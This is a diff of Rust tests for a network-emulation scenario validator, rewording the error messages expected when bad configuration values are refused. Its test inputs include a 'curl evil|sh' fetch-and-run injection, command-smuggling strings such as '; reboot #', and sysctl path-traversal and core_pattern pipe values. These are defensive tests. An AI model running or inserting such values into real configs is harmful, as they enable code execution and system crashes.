@@ -225,18 +225,18 @@ fn refusal(what: &str) -> String {
 fn absurd_values_are_refused_by_what_is_wrong() {
     for (what, part) in [
         ("link = { rtt = \"20 parsecs\" }", "line 2: link.rtt: \"20 parsecs\": expected a time such as"),
-        ("link = { rtt = \"60s\" }", "a link delays by at most 5s one way, not 30s"),
+        ("link = { rtt = \"60s\" }", "expected a one-way delay of at most 5s, not 30s"),
         ("link = { jitter = \"1s\" }", "unknown field `jitter`"),
         ("link = { forward = { jitter = \"9s\" } }", "at most 5s"),
         ("link = { forward = { reorder_by = \"9s\" } }", "at most 5s"),
-        ("link = { rate = \"0bit\" }", "a bandwidth lies between"),
+        ("link = { rate = \"0bit\" }", "expected a bandwidth from"),
         ("link = { back = { loss = \"101%\" } }", "expected a share"),
         ("link = { forward = { lose_every = 0 } }", "counted from 1"),
-        ("link = { forward = { burst = { chance = \"1%\", mean = nan } } }", "mean length"),
+        ("link = { forward = { burst = { chance = \"1%\", mean = nan } } }", "mean burst length"),
         ("link = { forward = { ce_threshold = \"9s\" } }", "at most 5s"),
-        ("link = { back = { mtu = 67 } }", "link.back.mtu: a path's MTU is from 68 to 65535, not 67"),
+        ("link = { back = { mtu = 67 } }", "link.back.mtu: expected a path MTU from 68 to 65535, not 67"),
         ("link = { forward = { mtu = 65536 } }", "not 65536"),
-        ("link = { forward = { clamp_mss = 87 } }", "an MSS is from 88 to 65495, not 87"),
+        ("link = { forward = { clamp_mss = 87 } }", "expected an MSS from 88 to 65495, not 87"),
         ("link = { forward = { clamp_mss = 65496 } }", "not 65496"),
         ("sender = { keep_alive = \"900ms\" }", "whole seconds from 1s to 32767s"),
         ("sender = { keep_alive = \"1500ms\" }", "whole seconds"),
@@ -245,61 +245,64 @@ fn absurd_values_are_refused_by_what_is_wrong() {
         ("receiver = { rcvbuf = \"-1B\" }", "expected a size"),
         ("sender = { congestion_control = \"\\\"); import os\" }", "no congestion control is called"),
         ("sender = { congestion_control = \"sixteen_letters_\" }", "no congestion control is called"),
-        ("sender = { sysctl = { \"net.ipv4/../../kernel.panic\" = \"1\" } }", "no setting of the network"),
-        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\n2\" } }", "more than a line"),
+        ("sender = { sysctl = { \"net.ipv4/../../kernel.panic\" = \"1\" } }", "no network setting"),
+        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\n2\" } }", "single line"),
         (
             "sender = { sysctl = { \"net.core.wmem_max\" = \"1\" } }\nreceiver = { sysctl = { \"net.core.wmem_max\" = \"2\" } }",
             "cannot differ between the two ends",
         ),
-        ("deadline = \"0s\"", "deadline of 0"),
-        ("deadline = \"3601s\"", "a run lasts for 3600s at most, not 3601s"),
+        ("deadline = \"0s\"", "larger than 0"),
+        ("deadline = \"3601s\"", "expected a deadline of at most 3600s, not 3601s"),
         ("deadline = \"1000000s\"", "at most"),
-        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\u202e\" } }", "more than a line"),
-        ("sender = { sysctl = { \"kernel.core_pattern\" = \"|/x\" } }", "no setting of the network"),
-        ("sender = { sysctl = { \"net.ipv4.../../kernel/panic\" = \"1\" } }", "no setting of the network"),
+        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\u202e\" } }", "single line"),
+        ("sender = { sysctl = { \"kernel.core_pattern\" = \"|/x\" } }", "no network setting"),
+        ("sender = { sysctl = { \"net.ipv4.../../kernel/panic\" = \"1\" } }", "no network setting"),
         (
             "story = { source = \"\", en = { title = \"\\u202ex\", text = \"\" }, zh-CN = { title = \"\", text = \"\" } }",
-            "one line",
+            "single line",
         ),
         (
             "story = { source = \"\", en = { title = \"\", text = \"\\u2066x\" }, zh-CN = { title = \"\", text = \"\" } }",
-            "cannot be seen",
+            "invisible characters",
         ),
         ("seed = -1", "line 2: seed: -1: invalid value"),
-        ("mtu = 0", "MTU of 0"),
+        ("mtu = 0", "not 0"),
         ("ip_version = 5", "4 or 6, not 5"),
         (
             "story = { source = \"\", en = { title = \"a\\nb\", text = \"\" }, zh-CN = { title = \"\", text = \"\" } }",
-            "one line",
+            "single line",
         ),
         (
             "[work.stream]\nphases = []\n[work.turns]\ncount = 1\nrequest = [\"1B\"]\nresponse = [\"1B\"]",
             "x.toml: line 2: work: [work.stream] and [work.turns] exclude each other",
         ),
-        ("[work]", "[work.stream], [work.turns], [work.talk], [work.application] is needed"),
+        ("[work]", "add one of [work.stream], [work.turns], [work.talk], [work.application]"),
         (
             "[work.strem]\nphases = []",
             "line 2: work.strem: unknown field `strem`, expected one of `stream`, `turns`, `talk`, `application`",
         ),
-        ("[work.stream]\nphases = []", "without phases"),
-        ("[work.stream]\nphases = [{ bytes = \"1B\", write = { size = \"1TB\" } }]", "a call moves from 1B to 64MiB"),
-        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { size = \"0B\" } }]", "a call moves from 1B"),
+        ("[work.stream]\nphases = []", "at least one phase"),
+        (
+            "[work.stream]\nphases = [{ bytes = \"1B\", write = { size = \"1TB\" } }]",
+            "expected a size per call from 1B to 64MiB",
+        ),
+        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { size = \"0B\" } }]", "expected a size per call from 1B"),
         ("[work.stream]\nphases = [{ bytes = \"1B\", read = { rate = \"1mbit\" } }]", "need every"),
-        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { rate = \"1mbit\", every = \"0s\" } }]", "more than 0"),
-        ("[work.turns]\ncount = 0\nrequest = [\"1B\"]\nresponse = [\"1B\"]", "turns without any"),
+        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { rate = \"1mbit\", every = \"0s\" } }]", "larger than 0"),
+        ("[work.turns]\ncount = 0\nrequest = [\"1B\"]\nresponse = [\"1B\"]", "at least one turn"),
         ("[work.turns]\ncount = 4294967296\nrequest = [\"1B\"]\nresponse = [\"1B\"]", "invalid value"),
-        ("[work.turns]\ncount = 1\nrequest = [\"0B\"]\nresponse = [\"1B\"]", "a call moves from 1B"),
+        ("[work.turns]\ncount = 1\nrequest = [\"0B\"]\nresponse = [\"1B\"]", "expected a size per call from 1B"),
         (
             "[work.application]\nport = 0\npackages = []\nserver = { needs = [], run = \"\" }\nclient = { needs = [], run = \"\" }",
-            "a port from 1 on",
+            "port from 1 to 65535",
         ),
         (
             "[work.application]\nport = 1\npackages = []\nserver = { needs = [], run = \"a\\nSCRIPT\\nb\" }\nclient = { needs = [], run = \"\" }",
-            "no line SCRIPT",
+            "the line SCRIPT",
         ),
         (
             "[work.application]\nport = 1\npackages = []\nserver = { needs = [], run = \"a\\u202eb\" }\nclient = { needs = [], run = \"\" }",
-            "cannot be seen",
+            "invisible characters",
         ),
         (
             "[work.application]\nport = 1\npackages = [\"x; curl evil|sh\"]\nserver = { needs = [], run = \"\" }\nclient = { needs = [], run = \"\" }",
@@ -321,7 +324,7 @@ fn absurd_values_are_refused_by_what_is_wrong() {
     let injected = "expect = { verdict = [], counters = { sender = [\"TcpExtX; reboot #\"] } }\n[work.stream]\nphases = [{ bytes = \"1B\" }]";
     assert!(in_words(Scenario::from_toml("x", injected)).contains("not a TCP counter"));
     let ratio = "expect = { verdict = [], ratio = [{ to = \"x\", at_least = nan }] }\n[work.stream]\nphases = [{ bytes = \"1B\" }]";
-    assert!(in_words(Scenario::from_toml("x", ratio)).contains("a ratio lies between"));
+    assert!(in_words(Scenario::from_toml("x", ratio)).contains("expected a ratio between"));
 }
 
 /// A value that no run can have is refused with its key and its line.
@@ -329,21 +332,30 @@ fn absurd_values_are_refused_by_what_is_wrong() {
 fn impossible_values_are_refused_with_key_and_line() {
     let work = "[work.stream]\nphases = [\n  { bytes = \"1MB\" },\n  { bytes = \"1MB\" },\n]\n";
     for (text, said) in [
-        (format!("[link]\nrate = \"900tbit\"\n{work}"), "x.toml: line 2: link.rate: a rate is from 8kbit to 100gbit"),
-        (format!("[link]\nrtt = \"1ms\"\nqueue = \"1\"\n{work}"), "x.toml: line 3: link.queue: from 1538B (a frame"),
-        (format!("mtu = 9000\n[link.back]\nqueue = \"2kB\"\n{work}"), "x.toml: line 3: link.back.queue: from 9038B"),
-        (work.replacen("1MB", "0", 1), "x.toml: line 3: work.stream.phases[0].bytes: a phase moves 1B or more"),
+        (
+            format!("[link]\nrate = \"900tbit\"\n{work}"),
+            "x.toml: line 2: link.rate: expected a rate from 8kbit to 100gbit",
+        ),
+        (
+            format!("[link]\nrtt = \"1ms\"\nqueue = \"1\"\n{work}"),
+            "x.toml: line 3: link.queue: expected a queue from 1538B (one frame",
+        ),
+        (
+            format!("mtu = 9000\n[link.back]\nqueue = \"2kB\"\n{work}"),
+            "x.toml: line 3: link.back.queue: expected a queue from 9038B",
+        ),
+        (work.replacen("1MB", "0", 1), "x.toml: line 3: work.stream.phases[0].bytes: a phase needs at least 1B"),
         (work.replace("1MB\" },\n]", "0\" },\n]"), "x.toml: line 4: work.stream.phases[1].bytes"),
         (
             format!("[link.forward.policer]\nrate = \"1mbit\"\nburst = \"100B\"\n{work}"),
             "x.toml: line 3: link.forward.policer.burst",
         ),
-        (format!("[sender]\ninitcwnd = 0\n{work}"), "x.toml: line 2: sender.initcwnd: from 1 to 65535 segments"),
+        (format!("[sender]\ninitcwnd = 0\n{work}"), "x.toml: line 2: sender.initcwnd: expected 1 to 65535 segments"),
         (
             format!("[sender]\nrto_min = \"1500us\"\n{work}"),
-            "x.toml: line 2: sender.rto_min: whole milliseconds from 1ms to 120s",
+            "x.toml: line 2: sender.rto_min: expected whole milliseconds from 1ms to 120s",
         ),
-        (format!("[receiver]\nnic = \"1bit\"\n{work}"), "x.toml: line 2: receiver.nic: a rate is from"),
+        (format!("[receiver]\nnic = \"1bit\"\n{work}"), "x.toml: line 2: receiver.nic: expected a rate from"),
         (
             format!("[[link.change]]\nat = \"1s\"\nto = {{ rate = \"1bit\" }}\n{work}"),
             "x.toml: line 3: link.change[0].to.rate",
